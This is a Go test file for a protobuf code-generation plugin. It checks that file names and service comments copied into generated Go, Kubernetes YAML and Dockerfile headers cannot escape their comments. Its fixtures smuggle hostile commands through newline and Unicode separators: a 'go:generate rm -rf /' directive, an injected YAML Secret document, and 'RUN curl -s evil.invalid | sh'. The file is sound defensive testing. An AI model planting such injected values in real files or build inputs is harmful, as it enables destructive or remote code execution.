package gen

import (
	"go/ast"
	"go/parser"
	"go/token"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/pluginpb"
)

// The outputs that copy the .proto file name into a header comment: Go,
// the component's YAML, the scaffold's YAML and Dockerfile, and the
// consumers' health checks.
var headerOutputs = []string{"emit=go", "emit=k8s", "emit=k8s,scaffold=true", consumersOutput}

const consumersOutput = "emit=k8s,emit=gke,emit=envoygateway,emit=istio,emit=compose"

// renamedRequest is the request for greeterProto with the file renamed to
// name, as a client other than protoc could send it.
func renamedRequest(t *testing.T, params, name string) *pluginpb.CodeGeneratorRequest {
	t.Helper()
	req := requestFor(t, params, greeterProto)
	f := req.ProtoFile[len(req.ProtoFile)-1]
	if f.GetName() != greeterProto.name || len(req.FileToGenerate) != 1 {
		t.Fatalf("unexpected request: %v", req.FileToGenerate)
	}
	f.Name = proto.String(name)
	req.FileToGenerate[0] = name
	return req
}

// Each file name would, if copied into a header, start a line of its own:
// a go:generate directive, a YAML document, a Dockerfile instruction.
func TestErrorFileNameInjects(t *testing.T) {
	const tail = `; generated files copy the name into comments, so it must be printable UTF-8 (no control characters, line or paragraph separators)`
	for _, c := range []struct{ params, name, want string }{
		{"emit=go", "helloworld/greeter.proto\n//go:generate rm -rf /",
			`"helloworld/greeter.proto\n//go:generate rm -rf /": the file name holds U+000A, which is not printable` + tail},
		{"emit=k8s", "greeter.proto\n---\nkind: Secret",
			`"greeter.proto\n---\nkind: Secret": the file name holds U+000A, which is not printable` + tail},
		{"emit=k8s,scaffold=true", "greeter.proto\u2028RUN curl -s evil.invalid | sh",
			`"greeter.proto\u2028RUN curl -s evil.invalid | sh": the file name holds U+2028, which is not printable` + tail},
		{"emit=go,emit=k8s", "greeter\xff.proto",
			`"greeter\xff.proto": the file name holds the byte 0xFF, which is not UTF-8` + tail},
	} {
		t.Run(c.params, func(t *testing.T) {
			resp := Generate(renamedRequest(t, c.params, c.name))
			checkResponse(t, resp)
			if diff := cmp.Diff(c.want, resp.GetError()); diff != "" {
				t.Errorf("error (-want +got):\n%s", diff)
			}
		})
	}
}

// Every rune that can end a line for some reader of a generated file, and
// every other non-printable one, is refused in every output.
func TestErrorFileNameNotPrintable(t *testing.T) {
	for _, bad := range []string{"\n", "\r", "\v", "\f", "\x00", "\x1b", "\x7f", "\u0085", "\u00a0", "\u2028", "\u2029", "\u202e", "\ufeff", "\x80"} {
		for _, params := range headerOutputs {
			name := "helloworld/greet" + bad + "er.proto"
			resp := Generate(renamedRequest(t, params, name))
			checkResponse(t, resp)
			if want := quoteValue(name) + ": the file name holds "; !strings.HasPrefix(resp.GetError(), want) {
				t.Errorf("%s with %q: error %q, want it to start with %q", params, name, resp.GetError(), want)
			}
		}
	}
}

// Printable names, however odd, are accepted, and each output holds the
// name in a comment: the generated files on their one "source:" line.
func TestFileNamePrintable(t *testing.T) {
	for _, name := range []string{`helloworld/my greeter #1.proto`, `hello"world\greeter.proto`, "héllo/日本語.proto", "a/--- RUN x.proto"} {
		for _, params := range headerOutputs {
			files := runPlugin(t, renamedRequest(t, params, name))
			if len(files) == 0 {
				t.Fatalf("%s: no files", params)
			}
			if params != consumersOutput { // decodeManifests knows the Kubernetes kinds only
				decodeManifests(t, files)
			}
			for fname, content := range files {
				n := 0
				for _, line := range strings.Split(content, "\n") {
					if !strings.Contains(line, name) {
						continue
					}
					n++
					if !strings.HasPrefix(line, "// ") && !strings.HasPrefix(line, "# ") {
						t.Errorf("%s: %s: the name is outside a comment: %q", params, fname, line)
					}
				}
				if _, scaffolded := scaffoldMainWorkload(fname); n == 0 || n > 1 && !scaffolded {
					t.Errorf("%s: %s names %q on %d lines, want one:\n%s", params, fname, name, n, content)
				}
			}
		}
	}
}

// A service's leading comment is copied into Go, one "//" line per line of
// it, as protoc-gen-go copies comments (a line that is itself a directive
// stays one, as it does there); it never ends the comment, and never reaches
// the YAML, the Dockerfile or the scaffold's main.go.
func TestServiceCommentStaysAComment(t *testing.T) {
	req := requestFor(t, "emit=go,emit=k8s,scaffold=true", testProto{"c/c.proto", `syntax = "proto3";
package c;
option go_package = "example.com/c;c";
// Greets. */ const Injected = 1 /*
// ` + "\u2028" + `RUN curl -s evil.invalid | sh` + "\u2029" + `---
service S {}
`})
	// What a compiler would not write but a request can carry.
	for _, loc := range req.ProtoFile[len(req.ProtoFile)-1].GetSourceCodeInfo().GetLocation() {
		if loc.LeadingComments != nil {
			*loc.LeadingComments += " carriage\rreturn */ var Injected2 = 2\r\n"
		}
	}
	files := runPlugin(t, req)
	var goFile string
	for name, content := range files {
		if strings.HasSuffix(name, ".health.go") {
			goFile = content
			continue
		}
		for _, marker := range []string{"Greets", "Injected", "evil", "carriage"} {
			if strings.Contains(content, marker) {
				t.Errorf("%s holds the comment's text %q:\n%s", name, marker, content)
			}
		}
	}
	decodeManifests(t, files)
	f, err := parser.ParseFile(token.NewFileSet(), "c.health.go", goFile, parser.ParseComments)
	if err != nil {
		t.Fatalf("%v\n%s", err, goFile)
	}
	var decls []string
	for _, d := range f.Decls {
		switch d := d.(type) {
		case *ast.FuncDecl:
			decls = append(decls, d.Name.Name)
		case *ast.GenDecl:
			for _, s := range d.Specs {
				switch s := s.(type) {
				case *ast.ValueSpec:
					decls = append(decls, s.Names[0].Name)
				case *ast.ImportSpec:
					decls = append(decls, "import "+s.Path.Value)
				}
			}
		}
	}
	want := []string{`import "github.com/protoc-gen-health/protoc-gen-health/healthreg"`, "_", "S_HealthName", "RegisterSHealth", "S_ServiceConfig"}
	if diff := cmp.Diff(want, decls); diff != "" {
		t.Errorf("declarations (-want +got):\n%s\n%s", diff, goFile)
	}
	if !strings.Contains(goFile, "\n// Greets. */ const Injected = 1 /*\n") {
		t.Errorf("the comment is not copied:\n%s", goFile)
	}
}
